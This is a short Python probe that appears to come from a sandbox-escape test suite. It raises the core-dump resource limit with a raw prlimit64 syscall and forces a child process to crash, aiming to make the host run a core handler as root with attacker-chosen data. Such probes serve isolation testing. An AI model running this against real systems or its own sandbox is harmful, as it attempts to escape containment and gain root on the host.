"""Crashes, having asked for a core file.

Would gain: a program of the host's that is started as root with data of the attacker's choice.
"""
import os
import ctypes
import resource
import signal

from inside import attempt, main, sysc


def crash():
    pid = os.fork()
    if pid == 0:
        os.chdir(os.environ["TMPDIR"])
        os.kill(os.getpid(), signal.SIGSEGV)
    return os.WCOREDUMP(os.waitpid(pid, 0)[1])


def attack():
    attempt("a limit above zero", lambda: resource.getrlimit(resource.RLIMIT_CORE)[1] != 0)
    attempt("raise it", sysc, "prlimit64", 0, resource.RLIMIT_CORE, (ctypes.c_uint64 * 2)(1 << 20, 1 << 20), 0)
    attempt("a core", crash)


if __name__ == "__main__":
    main(attack)
